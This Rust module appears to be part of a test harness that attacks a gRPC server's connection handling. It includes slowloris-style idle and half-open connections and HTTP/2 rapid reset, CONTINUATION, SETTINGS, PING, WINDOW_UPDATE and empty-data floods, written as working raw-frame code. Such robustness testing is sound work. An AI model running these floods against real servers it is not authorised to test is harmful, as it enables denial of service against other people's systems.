//! Attacks by connections: idle ones, half-open ones, streams without messages, and frames without meaning.

use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use prost::Message;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::time::{Instant, sleep, timeout};

use super::raw::{END_HEADERS, END_STREAM, FrameKind, PREFACE, RawConnection, call_headers, frame, prefix};
use super::target::{TOKEN, Target};

/// Idle connections that one caller holds at once.
const IDLE: usize = 100;

/// Streams that one connection may have open, by the server's default.
const STREAMS: usize = 250;

/// Connections that one caller fills with calls: with six callers 10,500 calls.
const STREAM_CONNECTIONS: usize = 7;

/// Frames that are sent at once.
const MANY: usize = 1_000;

/// How often held connections are looked at.
const PAUSE: Duration = Duration::from_millis(100);

/// How long a write to a server that reads no more is waited for.
const WRITE_TIME: Duration = Duration::from_secs(2);

/// What a caller does with connections.
#[derive(Clone, Copy, Debug)]
pub(super) enum ConnectionAttack {
    /// Connections that send nothing.
    Idle,
    /// Connections that send half of their preface.
    HalfPreface,
    /// Connections to the listener of metrics that send nothing.
    IdleHttp,
    /// Connections to the listener of metrics that send half of a request.
    HalfRequest,
    /// Calls whose headers come and whose messages do not.
    HeadersWithoutBodies,
    /// The same without the token.
    HeadersWithoutToken,
    /// Calls that announce the largest message and send two bytes of it.
    AnnouncedBodies,
    /// Calls that are begun and reset at once.
    RapidReset,
    /// Headers that never end.
    ContinuationFlood,
    /// Settings again and again.
    SettingsFlood,
    /// Pings again and again.
    PingFlood,
    /// Updates of the connection's window again and again.
    WindowFlood,
    /// A call whose message comes in pieces of nothing.
    EmptyDataFlood,
}

impl ConnectionAttack {
    /// One caller of it: goes on until the end, and tells how often it did its worst.
    pub(super) async fn run(self, target: &Target, end: Instant) -> u64 {
        let grpc = target.grpc;
        match self {
            Self::Idle => hold(grpc, b"", end).await,
            Self::HalfPreface => hold(grpc, &PREFACE[..16], end).await,
            Self::IdleHttp => hold(target.http, b"", end).await,
            Self::HalfRequest => hold(target.http, b"GET /metrics HTTP/1.1\r\nHost: a\r\nX-A: ", end).await,
            Self::HeadersWithoutBodies => streams(grpc, TOKEN, b"", end).await,
            Self::HeadersWithoutToken => streams(grpc, "wrong", b"", end).await,
            Self::AnnouncedBodies => {
                streams(grpc, TOKEN, &[prefix(99 << 20), vec![0x12]].concat(), end).await
            }
            Self::RapidReset => {
                let message = target.small_request("reset").encode_to_vec();
                repeat(grpc, end, |connection| reset_calls(connection, &message)).await
            }
            Self::ContinuationFlood => repeat(grpc, end, endless_headers).await,
            Self::SettingsFlood => repeat(grpc, end, |_| flood(FrameKind::Settings, b"")).await,
            Self::PingFlood => repeat(grpc, end, |_| flood(FrameKind::Ping, b"12345678")).await,
            Self::WindowFlood => repeat(grpc, end, |_| flood(FrameKind::WindowUpdate, &[0, 0, 0, 1])).await,
            Self::EmptyDataFlood => repeat(grpc, end, empty_data).await,
        }
    }
}

/// Many frames of one kind that belong to no stream.
fn flood(kind: FrameKind, payload: &[u8]) -> Vec<u8> {
    frame(kind, 0, 0, payload).repeat(MANY)
}

fn endless_headers(connection: &mut RawConnection) -> Vec<u8> {
    let stream = connection.next_stream();
    let more = frame(FrameKind::Continuation, 0, stream, b"\x00\x03x-a\x03aaa");
    [frame(FrameKind::Headers, 0, stream, &[0x83, 0x86]), more.repeat(MANY)].concat()
}

fn empty_data(connection: &mut RawConnection) -> Vec<u8> {
    let stream = connection.next_stream();
    let open = frame(FrameKind::Headers, END_HEADERS, stream, &call_headers(TOKEN));
    [open, frame(FrameKind::Data, 0, stream, b"").repeat(MANY)].concat()
}

/// Some calls with this message, each reset (CANCEL) behind its last byte.
fn reset_calls(connection: &mut RawConnection, message: &[u8]) -> Vec<u8> {
    let body = [&prefix(u32::try_from(message.len()).unwrap_or_default())[..], message].concat();
    let headers = call_headers(TOKEN);
    let mut bytes = Vec::new();
    for _ in 0..MANY / 10 {
        let stream = connection.next_stream();
        bytes.extend(frame(FrameKind::Headers, END_HEADERS, stream, &headers));
        bytes.extend(frame(FrameKind::Data, END_STREAM, stream, &body));
        bytes.extend(frame(FrameKind::Reset, 0, stream, &8_u32.to_be_bytes()));
    }
    bytes
}

/// Holds as many connections as may be, each of which sent `start`, and opens new ones for those that are closed.
async fn hold(address: SocketAddr, start: &[u8], end: Instant) -> u64 {
    let mut held: Vec<TcpStream> = Vec::new();
    let mut opened = 0;
    while Instant::now() < end {
        held.retain(is_open);
        while held.len() < IDLE && Instant::now() < end {
            let Ok(stream) = open(address, start).await else { break };
            held.push(stream);
            opened += 1;
        }
        sleep(PAUSE).await;
    }
    opened
}

async fn open(address: SocketAddr, start: &[u8]) -> io::Result<TcpStream> {
    let connected = timeout(WRITE_TIME, TcpStream::connect(address)).await;
    let mut stream = connected.map_err(|_| io::Error::from(io::ErrorKind::TimedOut))??;
    stream.write_all(start).await?;
    Ok(stream)
}

fn is_open(stream: &TcpStream) -> bool {
    match stream.try_read(&mut [0; 16]) {
        Ok(read) => read > 0,
        Err(error) => error.kind() == io::ErrorKind::WouldBlock,
    }
}

/// Holds connections full of calls whose bodies begin with `start` and do not go on.
async fn streams(address: SocketAddr, token: &str, start: &[u8], end: Instant) -> u64 {
    let mut held: Vec<RawConnection> = Vec::new();
    let mut opened = 0;
    while Instant::now() < end {
        held.retain(|connection| !connection.is_closed());
        // A server that answers calls has room for new ones, so the connections are renewed.
        if held.len() == STREAM_CONNECTIONS {
            sleep(PAUSE * 10).await;
            held.clear();
        }
        if let Ok(connection) = with_streams(address, token, start).await {
            held.push(connection);
            opened += STREAMS as u64;
        } else {
            sleep(PAUSE).await;
        }
    }
    opened
}

async fn with_streams(address: SocketAddr, token: &str, start: &[u8]) -> io::Result<RawConnection> {
    let mut connection = RawConnection::open(address).await?;
    let headers = call_headers(token);
    let mut bytes = Vec::new();
    for _ in 0..STREAMS {
        let stream = connection.next_stream();
        bytes.extend(frame(FrameKind::Headers, END_HEADERS, stream, &headers));
        if !start.is_empty() {
            bytes.extend(frame(FrameKind::Data, 0, stream, start));
        }
    }
    connection.send(&bytes).await?;
    Ok(connection)
}

/// Sends what `next` makes again and again, over a new connection whenever the server closes one.
async fn repeat(
    address: SocketAddr,
    end: Instant,
    mut next: impl FnMut(&mut RawConnection) -> Vec<u8> + Send,
) -> u64 {
    let mut sent = 0;
    while Instant::now() < end {
        let Ok(mut connection) = RawConnection::open(address).await else {
            sleep(PAUSE).await;
            continue;
        };
        while Instant::now() < end && !connection.is_closed() {
            let bytes = next(&mut connection);
            match timeout(WRITE_TIME, connection.send(&bytes)).await {
                Ok(Ok(())) => sent += 1,
                _ => break,
            }
        }
    }
    sent
}
